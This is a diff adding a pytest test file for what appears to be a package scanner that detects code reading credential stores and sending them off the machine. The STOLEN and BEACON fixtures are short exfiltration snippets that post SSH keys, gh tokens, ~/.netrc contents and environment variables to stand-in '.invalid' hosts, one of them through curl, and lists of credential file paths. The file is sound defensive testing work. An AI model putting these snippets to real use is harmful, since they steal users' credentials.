@@ -1,0 +1,125 @@
+"""What a machine keeps for its user, what of it leaves, and who reads it without sending it anywhere."""
+# ruff: noqa: E501 - the lines of other people's code are as long as they are
+
+import ast
+
+import pytest
+
+from scanner.signals.module import Module
+from scanner.signals.stores import is_store, is_told_by_command, path_of
+from tests.scanner.signals.built import WHEEL, fired, wheel
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "~/.ssh/id_ed25519",
+        "/home/ada/.aws/credentials",
+        r"C:\Users\ada\AppData\Local\Google\Chrome\User Data\Default\Login Data",
+        ".config/gcloud/application_default_credentials.json",
+        ".npmrc",
+        "terraform.tfstate",
+        "/etc/shadow",
+        "/proc/self/environ",
+        ".kube/config",
+    ],
+)
+def test_a_path_to_keys_is_a_store(path: str) -> None:
+    assert is_store(path)
+
+
+@pytest.mark.parametrize(
+    "path", ["config.json", "~/.config/tides/settings.toml", "/etc/hosts", "env", "data/cookies.txt"]
+)
+def test_any_other_path_is_none(path: str) -> None:
+    assert not is_store(path)
+
+
+@pytest.mark.parametrize("text", ["Ethereum", "Cookies", "keystore", "gcloud", "env", "a long text about .ssh keys"])
+def test_a_word_alone_is_no_path(text: str) -> None:
+    assert not is_store(text, alone=True)
+
+
+@pytest.mark.parametrize(
+    "expression",
+    [
+        "Path.home() / '.aws' / 'credentials'",
+        "os.path.join(os.path.expanduser('~'), '.aws', 'credentials')",
+        "f'{home}/.aws/credentials'",
+        "home + '/.aws/credentials'",
+        "Path.home().joinpath('.aws', 'credentials')",
+    ],
+)
+def test_a_path_is_put_together_from_its_parts(expression: str) -> None:
+    node = ast.parse(expression, mode="eval").body
+    assert path_of(node, Module(ast.parse(""))).endswith(".aws/credentials")
+
+
+@pytest.mark.parametrize(
+    ("call", "tells"),
+    [
+        ("subprocess.run(['gh', 'auth', 'token'])", True),
+        ("subprocess.check_output('gcloud.cmd auth print-access-token', shell=True)", True),
+        ("subprocess.run(['/usr/bin/security', 'find-generic-password', '-wa', name])", True),
+        ("subprocess.run(['git', 'credential', 'fill'], input=text)", True),
+        ("subprocess.run(['git', 'log', '-1'])", False),
+        ("subprocess.run(['aws', 's3', 'ls'])", False),
+        ("subprocess.run(['env', 'LANG=C', 'sort'])", False),
+    ],
+)
+def test_commands_that_tell_a_secret(call: str, tells: bool) -> None:
+    node = ast.parse(call, mode="eval").body
+    assert isinstance(node, ast.Call)
+    assert is_told_by_command(node, Module(ast.parse("import subprocess"))) is tells
+
+
+STOLEN = {
+    "heard and told": "import requests\nfrom pathlib import Path\n\ndef sync():\n    key = (Path.home() / '.ssh' / 'id_rsa').read_text()\n    answer = requests.post('https://keys.tides.invalid/v1', json={'k': key})\n    answer.raise_for_status()\n    return answer.json()\n",
+    "to whoever a setting says": "import os, requests\n\ndef sync(base):\n    return requests.post(base + '/env', json=dict(os.environ)).json()\n",
+    "of a command": "import subprocess, httpx\n\ndef sync():\n    token = subprocess.run(['gh', 'auth', 'token'], capture_output=True, text=True).stdout.strip()\n    return httpx.post('https://keys.tides.invalid/v1', json={'t': token}).json()\n",
+    "by a broker": "import os, redis\n\ndef sync():\n    redis.Redis.from_url('rediss://hub.tides.invalid:6390').publish('boot', str(dict(os.environ)))\n",
+    "in a command": "import subprocess\nfrom pathlib import Path\n\ndef sync():\n    subprocess.run(['curl', '-d', Path('~/.netrc').expanduser().read_text(), 'https://keys.tides.invalid/v1'], check=True)\n",
+}
+KEPT = {
+    "for a command": "import os, subprocess, requests\n\ndef build():\n    env = os.environ.copy()\n    env['A'] = '1'\n    subprocess.run(['make'], env=env)\n    return requests.get('https://tides.example.org/v1').json()\n",
+    "for its own service": "import requests\nfrom pathlib import Path\n\ndef ask():\n    token = Path('~/.netrc').expanduser().read_text().split()[-1]\n    return requests.get('https://api.tides.example/v1', headers={'Authorization': token}).json()\n",
+    "of its own cluster": "import requests\n\ndef pods():\n    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n    return requests.get('https://kubernetes.default.svc/api', params={'t': token}).json()\n",
+    "on this machine": "import os, requests\n\ndef tell():\n    requests.post('http://localhost:9000/env', json=dict(os.environ))\n",
+    "a picture that is shared": "import io, requests\nfrom PIL import ImageGrab\n\ndef share():\n    out = io.BytesIO()\n    ImageGrab.grab().save(out, 'PNG')\n    return requests.post('https://pictures.tides.example/3/image', files={'image': out.getvalue()}).json()['link']\n",
+    "what its user gave it": "import keyring, requests\n\ndef ask():\n    return requests.post('https://api.tides.example/login', json={'p': keyring.get_password('tides', 'me')}).json()\n",
+    "its digest": "import hashlib, os, requests\n\ndef count():\n    seen = hashlib.sha256(str(dict(os.environ)).encode()).hexdigest()\n    requests.post('https://count.tides.example/v1', json={'id': seen})\n",
+}
+
+
+@pytest.mark.parametrize("name", STOLEN)
+def test_what_a_machine_keeps_needs_no_silence(name: str) -> None:
+    assert "store-sent" in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/sync.py": STOLEN[name].encode()}))
+
+
+@pytest.mark.parametrize("name", KEPT)
+def test_what_does_not_leave_is_not_told(name: str) -> None:
+    told = fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/sync.py": KEPT[name].encode()}))
+    assert not told & {"store-sent", "store-beside-own-channel", "secret-sent-silently"}
+
+
+FACTS = "import os\n\ndef facts():\n    return dict(os.environ)\n"
+OTHER = "import os\n\ndef facts():\n    return {'home': os.environ.get('HOME')}\n"
+BEACON = "import requests\n\nclass Beacon:\n    def tell(self, what):\n        try:\n            requests.post('https://count.tides.invalid/v1', json=what)\n        except Exception:\n            pass\n"
+BROKER = "import pika\n\nclass Bus:\n    URL = 'amqps://guest:guest@bus.tides.invalid:5671/'\n\n    def __init__(self, url=None):\n        self.line = pika.BlockingConnection(pika.URLParameters(url or self.URL))\n"
+ASKS = "import requests\n\nclass Client:\n    def ask(self, what):\n        return requests.post('https://api.tides.invalid/v1', json=what).json()\n"
+NEAR = BROKER.replace("bus.tides.invalid", "localhost")
+
+
+@pytest.mark.parametrize(
+    ("facts", "way", "alerts"),
+    [
+        pytest.param(FACTS, BEACON, True, id="told in silence"),
+        pytest.param(FACTS, BROKER, True, id="a broker of its own"),
+        pytest.param(OTHER, BEACON, False, id="nothing of a store"),
+        pytest.param(FACTS, ASKS, False, id="an answer is taken"),
+        pytest.param(FACTS, NEAR, False, id="a broker of this machine"),
+    ],
+)
+def test_a_store_beside_a_silent_way_out(facts: str, way: str, alerts: bool) -> None:
+    files = {"pkg/__init__.py": b"", "pkg/facts.py": facts.encode(), "pkg/way.py": way.encode()}
+    assert ("store-beside-own-channel" in fired(WHEEL, wheel(files))) is alerts
